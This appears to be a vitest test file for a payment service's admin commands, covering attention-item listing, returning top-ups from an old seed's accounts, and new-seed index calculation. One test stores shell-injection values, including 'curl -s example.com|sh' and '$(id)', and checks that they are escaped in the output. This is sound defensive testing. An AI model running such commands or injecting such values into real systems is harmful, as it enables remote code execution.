// The list of what needs attention, when it is long; and paying out what is left on accounts of an earlier seed.
import { expect, it } from 'vitest';
import { systemClock } from '@/lib/core/clock';
import { readConfig } from '@/lib/core/config';
import { createLog } from '@/lib/core/log';
import { MAX_ATTENTION_ITEMS } from '@/lib/queries/list-attention';
import { describeOnBothDatabases } from '@/prisma/test-database';
import { prepareMoney } from '@/verification/testing/money';
import { UsageError } from './command';
import { runCommand } from './run-command';

describeOnBothDatabases('the list of what needs attention', (open) => {
  it('shows more items than a page, because a restore can leave one for every address', async () => {
    const database = await open();
    const count = MAX_ATTENTION_ITEMS + 1;
    await database.db.attentionItem.createMany({
      data: Array.from({ length: count }, (_, place) => ({
        ...{ reference: `balance:${place}`, kind: 'unclaimedBalance', detail: { index: place } },
        createdAt: new Date(place),
      })),
    });
    const deps = { database, clock: systemClock, config: readConfig({}), log: createLog('test', 'silent') };
    const { text } = await runCommand(deps, ['list-attention']);
    expect(text.split('\n')).toHaveLength(count);
    expect(text).toContain('balance:0 ');
  });
});

describeOnBothDatabases('an item of somebody who wrote to the database', (open) => {
  it('has no text that a shell would run when it is pasted', async () => {
    const database = await open();
    await database.db.attentionItem.create({
      data: {
        ...{ reference: 'account:nano_1;curl -s example.com|sh', kind: 'auditMismatch' },
        ...{ paymentId: 'pay_1`id`', detail: { account: '$(id)' }, createdAt: new Date(0) },
      },
    });
    const deps = { database, clock: systemClock, config: readConfig({}), log: createLog('test', 'silent') };
    const { text } = await runCommand(deps, ['list-attention']);
    expect(text).toBe(
      '"account:nano_1;curl -s example.com|sh"  auditMismatch  "pay_1\\u{60}id\\u{60}"  since 1970-01-01T00:00:00.000Z  account="\\u{24}(id)"',
    );
  });
});

describeOnBothDatabases('the accounts of an earlier seed', (open) => {
  it('are shown, and top-ups are returned unless their merchant paused settlements', async () => {
    const database = await open();
    const { db } = database;
    const money = await prepareMoney(database);
    await money.makeTopUp(10n ** 30n, []);
    const { depositIndex } = await money.makeTopUp(10n ** 30n, []);
    await money.makePayment();
    const deps = { ...money.deps, config: readConfig({}) };
    const run = (before: number, ...flags: readonly string[]) =>
      runCommand(deps, ['empty-old-accounts', '--before', `${before}`, ...flags]);
    /** The first top-up, with nothing left in it and open. */
    const unusedTopUp = async (before: number) => {
      const first = await db.topUp.findFirstOrThrow({ where: { depositIndex: { lt: before } } });
      await db.topUp.update({ where: { id: first.id }, data: { closedAt: null } });
      return { topUpId: first.id };
    };
    const shown = await run(depositIndex + 1);
    expect(shown.text.split('\n')).toEqual([
      expect.stringContaining('Open payments: 0.'),
      expect.stringMatching(/^Payments that send money.*: 0\.$/),
      'Payments that wait for their merchant to settle: 0.',
      expect.stringMatching(/^Top-ups that are open.*: 2\.$/),
      'Add --confirm to settle these payments and return these top-ups.',
    ]);
    await money.makePayment();
    expect((await run(depositIndex + 2)).text).toContain('Open payments: 1.');
    await db.merchant.updateMany({ data: { settlementPausedAt: new Date(0) } });
    const refused = await run(depositIndex, '--confirm');
    expect(refused).toMatchObject({ ok: false, text: expect.stringContaining('paused settlements') });
    expect(await db.topUp.count({ where: { closedAt: { not: null } } })).toBe(0);
    await db.merchant.updateMany({ data: { settlementPausedAt: null } });
    expect(await run(depositIndex, '--confirm')).toMatchObject({
      ok: true,
      text: expect.stringContaining('Closed top-ups: 1.'),
    });
    expect(await db.topUp.count({ where: { closedAt: { not: null } } })).toBe(1);
    expect(await db.transfer.count({ where: { kind: 'topUpReturn' } })).toBe(1);
    // It would be given out again for refunds.
    const { topUpId } = await unusedTopUp(depositIndex);
    expect((await run(depositIndex)).text).toMatch(/Top-ups that are open.*: 1\./);
    expect(await run(depositIndex, '--confirm')).toMatchObject({ ok: true });
    expect(await db.topUp.findUniqueOrThrow({ where: { id: topUpId } })).toMatchObject({
      closedAt: expect.any(Date),
    });
    for (const unknown of [depositIndex + 9, 2 ** 31, 9_999_999_999])
      expect(await run(unknown)).toMatchObject({
        ok: false,
        text: expect.stringContaining('No seed begins'),
      });
    for (const before of ['', 'x', '-1'])
      await expect(runCommand(deps, ['empty-old-accounts', `--before=${before}`])).rejects.toThrow(
        UsageError,
      );
    await expect(runCommand(deps, ['empty-old-accounts'])).rejects.toThrow(UsageError);
  });
});

describeOnBothDatabases('the first index of a new seed', (open) => {
  it('leaves room for addresses that are derived meanwhile, and is found by a rescan', async () => {
    const database = await open();
    const money = await prepareMoney(database);
    const { depositIndex } = await money.makeTopUp(1n, []);
    const show = (change: object = {}) =>
      runCommand({ ...money.deps, config: { ...readConfig({}), ...change } }, ['first-index']);
    expect(await show({ addressPoolSize: 2_000, restoreGap: 10_000 })).toEqual({
      ok: true,
      text: `The highest index in use is ${depositIndex}. A new seed may begin at an index from ${depositIndex + 1_000} to ${depositIndex + 6_500}.`,
    });
    expect(await show({ addressPoolSize: 8_000, restoreGap: 10_000 })).toMatchObject({
      ok: false,
      text: expect.stringContaining('Raise RESTORE_GAP above 12000'),
    });
  });
});
